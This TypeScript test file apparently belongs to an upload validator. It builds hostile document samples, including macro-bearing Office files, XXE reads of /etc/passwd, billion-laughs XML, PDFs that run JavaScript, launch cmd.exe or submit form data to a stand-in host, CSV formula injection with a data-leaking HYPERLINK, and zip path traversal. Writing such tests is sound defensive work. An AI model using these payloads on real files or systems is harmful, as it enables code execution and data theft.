/** Documents with active content. */
import { openDocumentEntries, createPdf, sheetEntries, wordEntries } from "../files.ts";
import { markEncrypted, renameEntry, createZip } from "../zips.ts";
import { damaged, refusedType, type Outcome, createFileCases } from "./upload.ts";

const wordType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const odtType = "application/vnd.oasis.opendocument.text";
/** The format of Office until 2003, in which encrypted documents are stored too. */
const compoundFile = Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(600)]);

const macros = createFileCases("documents with macros", [
  [
    "a contract with one",
    {
      name: "contrat.docx",
      bytes: () => createZip([...wordEntries(), { name: "word/vbaProject.bin", content: "x" }]),
    },
    refusedType,
  ],
  [
    "a contract that is made for them",
    {
      name: "contrat.docx",
      bytes: () => createZip(wordEntries({ type: "application/vnd.ms-word.document.macroEnabled.main+xml" })),
    },
    refusedType,
  ],
  [
    "a sheet that is made for them",
    {
      name: "budget.xlsx",
      bytes: () => createZip(sheetEntries({ type: "application/vnd.ms-excel.sheet.macroEnabled.main+xml" })),
    },
    refusedType,
  ],
  [
    "Basic in an open document",
    {
      name: "contrat.odt",
      bytes: () =>
        createZip([...openDocumentEntries(odtType), { name: "Basic/Standard/M.xml", content: "x" }]),
    },
    refusedType,
  ],
  [
    "Python in an open document",
    {
      name: "contrat.odt",
      bytes: () =>
        createZip([...openDocumentEntries(odtType), { name: "Scripts/python/a.py", content: "x" }]),
    },
    refusedType,
  ],
  ["an old contract", { name: "contrat.doc", bytes: compoundFile }, refusedType],
  [
    "a locked contract",
    { name: "contrat.docx", bytes: async () => markEncrypted(await createZip(wordEntries())) },
    refusedType,
  ],
  ["rich text with an object", { name: "contrat.txt", bytes: "{\\rtf1{\\object\\objocx}}" }, refusedType],
]);

const nestedEntities = `<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "${"&a;".repeat(10)}"><!ENTITY c "${"&b;".repeat(10)}">]>`;
const externalEntity = '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]>';

/** XML that our code does not read. */
const xml = createFileCases("xml that unfolds or reads along", [
  [
    "a drawing of a billion laughs",
    { name: "plan.svg", bytes: `<?xml version="1.0"?>${nestedEntities}<svg>&c;</svg>` },
    refusedType,
  ],
  [
    "a drawing that reads a file",
    { name: "plan.svg", bytes: `${externalEntity}<svg>&a;</svg>` },
    refusedType,
  ],
  [
    "a contract that reads a file",
    {
      name: "contrat.docx",
      bytes: () => createZip(wordEntries({ body: `<?xml version="1.0"?>${externalEntity}<w>&a;</w>` })),
    },
    { storedType: wordType, as: "contrat.docx" },
  ],
  [
    "a contract of a billion laughs",
    {
      name: "contrat.docx",
      bytes: () => createZip(wordEntries({ body: `<?xml version="1.0"?>${nestedEntities}<w>&c;</w>` })),
    },
    { storedType: wordType, as: "contrat.docx" },
  ],
  [
    "a list of parts that hides its type",
    { name: "contrat.docx", bytes: () => createZip(wordEntries({ type: "&#97;pplication/vnd.ms-word" })) },
    refusedType,
  ],
]);

const stored: Outcome = { storedType: "application/pdf", as: "devis.pdf" };

const acting = createFileCases("a pdf that acts", [
  [
    "it runs a script when opened",
    {
      name: "devis.pdf",
      bytes: () =>
        createPdf({ catalog: "/OpenAction 6 0 R", extra: ["<< /S /JavaScript /JS (app.alert(1)) >>"] }),
    },
    stored,
  ],
  [
    "it starts a program",
    {
      name: "devis.pdf",
      bytes: () => createPdf({ catalog: "/OpenAction 6 0 R", extra: ["<< /S /Launch /F (cmd.exe) >>"] }),
    },
    stored,
  ],
  [
    "it sends what is typed elsewhere",
    {
      name: "devis.pdf",
      bytes: () =>
        createPdf({
          catalog: "/OpenAction 6 0 R",
          extra: ["<< /S /SubmitForm /F (http://exemple.invalid) >>"],
        }),
    },
    stored,
  ],
  [
    "it carries a program",
    {
      name: "devis.pdf",
      bytes: () =>
        createPdf({
          catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
          extra: [
            "<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
            "<< /Length 2 >>\nstream\nMZ\nendstream",
          ],
        }),
    },
    stored,
  ],
]);

const formulas = createFileCases("sheets that calculate more than sums", [
  [
    "a command",
    { name: "invites.csv", bytes: "Nom\r\n=cmd|' /C calc'!A0\r\n" },
    { storedType: "text/csv", as: "invites.csv" },
  ],
  [
    "a link that tells",
    { name: "invites.csv", bytes: '=HYPERLINK("http://exemple.invalid?"&A1,"Zoé")' },
    { storedType: "text/csv", as: "invites.csv" },
  ],
  [
    "one behind a tab",
    { name: "invites.tsv", bytes: "\t@SUM(1+9)*cmd|' /C calc'!A0" },
    { storedType: "text/csv", as: "invites.tsv" },
  ],
  [
    "one in UTF-16",
    { name: "invites.csv", bytes: Buffer.from("\u{feff}=1+1\r\n", "utf16le") },
    { storedType: "text/csv", as: "invites.csv" },
  ],
]);

const zips = createFileCases("zips that lead astray", [
  [
    "an entry above its folder",
    {
      name: "contrat.docx",
      bytes: async () =>
        renameEntry(await createZip([...wordEntries(), { name: "aa/bb", content: "x" }]), "aa/bb", "../bb"),
    },
    damaged,
  ],
  [
    "an entry at the root of the disk",
    {
      name: "contrat.docx",
      bytes: async () =>
        renameEntry(await createZip([...wordEntries(), { name: "a/bb", content: "x" }]), "a/bb", "/abb"),
    },
    damaged,
  ],
  [
    "a zip of anything",
    { name: "photos.zip", bytes: () => createZip([{ name: "a.html", content: "<html>" }]) },
    refusedType,
  ],
  [
    "a type that is said last",
    { name: "contrat.odt", bytes: () => createZip(openDocumentEntries(odtType).toReversed()) },
    refusedType,
  ],
  [
    "a directory that begins nowhere",
    { name: "contrat.docx", bytes: `PK\x03\x04${"\0".repeat(40)}PK\x05\x06${"\xff".repeat(18)}` },
    damaged,
  ],
]);

export const documentUploads = [...macros, ...xml, ...acting, ...formulas, ...zips];
